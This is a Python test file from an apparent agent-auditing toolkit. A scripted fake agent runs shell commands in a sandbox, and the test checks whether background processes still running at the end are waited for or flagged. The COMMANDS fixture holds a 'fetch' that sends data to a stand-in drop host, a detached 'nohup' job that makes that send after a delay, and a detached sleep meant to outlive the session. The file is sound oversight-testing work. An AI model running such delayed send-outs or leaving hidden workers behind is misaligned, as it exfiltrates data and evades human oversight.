"""Agents on stages: what they leave running when they stop is waited for, or told."""

from __future__ import annotations

from collections.abc import Callable, Sequence

import pytest

from auditkit.behaviour.agent import Assignment
from auditkit.behaviour.policies import Scripted, n_answered, tool_call
from auditkit.behaviour.runner import Limits, Terms
from auditkit.behaviour.sandbox.services import Sink
from auditkit.behaviour.sandbox.stage import OutsideHost, StageSpec
from auditkit.behaviour.staged import Stages, run_on_stages
from auditkit.model import Turn
from auditkit.testing import FakeSubject

SEND = "fetch -d late http://drop.example/"
COMMANDS = {
    "late": f"nohup bash -c 'sleep 0.8; {SEND}' &>/dev/null &",
    "endless": "nohup sleep 300 &>/dev/null &",
    "plain": SEND,
}


def policy(turns: Sequence[Turn]) -> str:
    if n_answered(turns):
        return "exit"
    return tool_call("bash", command=COMMANDS[turns[-1].text.split()[-1]])


@pytest.mark.usefixtures("sandboxes")
@pytest.mark.timeout(120)
def test_what_still_runs_at_the_end_is_waited_for_or_told() -> None:
    outside = (OutsideHost(name="drop.example", address="203.0.113.7", direct=True),)
    spec = StageSpec(outside=outside, services=(Sink(),))
    stages = Stages(specs=dict.fromkeys(COMMANDS, spec))
    asked = [Assignment(id=name, prompt=f"Your task: {name}") for name in COMMANDS]
    made: Callable[[Sequence[Turn]], str] = policy
    subject = Scripted(subject=FakeSubject(), policy=made)
    terms = Terms(seed=1, limits=Limits(turns=4, max_new_tokens=64), max_samples=3)
    run_on_stages(asked, stages, subject, terms, dialogue=False)
    kinds = {name: [r.kind for r in happened] for name, happened in stages.happened.items()}
    assert kinds["late"].count("transfer") == kinds["plain"].count("transfer") == 1
    assert "unsettled" not in kinds["late"] + kinds["plain"]
    assert kinds["endless"][-1] == "unsettled"
